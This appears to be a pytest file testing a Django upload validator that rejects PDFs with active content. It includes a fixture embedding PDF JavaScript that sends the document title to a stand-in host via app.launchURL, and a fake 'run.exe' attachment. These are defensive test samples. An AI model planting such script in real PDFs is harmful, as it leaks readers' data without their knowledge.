"""REG-2: a material offered as PDF is refused when it carries active content (script, launch or
auto-open actions, embedded files), wherever the PDF hides it; ordinary PDFs pass."""

import io
import warnings

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject

from registration.materials import ACTIVE_PDF_NAME, check_upload
from registration.models import MaterialKind
from tests.registration.conftest import pdf_bytes, upload


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        writer.add_js("app.launchURL('http://example.invalid/?'+this.info.Title);")
    return written(writer)


def with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("run.exe", b"MZ not really")
    return written(writer)


def refused(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(MaterialKind.EDUCATION, upload("学历证书.pdf", content, "application/pdf"))
    return caught.value


@pytest.mark.parametrize("content", [with_script(), with_embedded_file()], ids=["script", "embedded-file"])
def test_reg2_a_pdf_with_active_content_is_refused_in_chinese(content):
    error = refused(content)
    assert error.code == "active_pdf" and "打印为PDF" in error.messages[0]


def test_reg2_a_script_hidden_from_a_byte_scan_is_still_found(monkeypatch):
    """Object streams compress dictionaries: the parsed objects are searched too."""
    import registration.materials as materials

    monkeypatch.setattr(materials, "ACTIVE_PDF_NAME", type("Blind", (), {"search": staticmethod(lambda _: None)}))
    assert refused(with_script()).code == "active_pdf"


def test_reg2_an_ordinary_pdf_passes_and_a_font_tagged_aa_is_no_action():
    assert check_upload(MaterialKind.EDUCATION, upload("a.pdf", pdf_bytes(), "application/pdf")).kind == "pdf"
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"),
                             NameObject("/BaseFont"): NameObject("/AAAAAB+NotoSansCJK")})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    content = written(writer)
    assert b"/AAAAAB+NotoSansCJK" in content and not ACTIVE_PDF_NAME.search(content)
    assert PdfReader(io.BytesIO(content)).pages
    assert check_upload(MaterialKind.EDUCATION, upload("b.pdf", content, "application/pdf")).kind == "pdf"
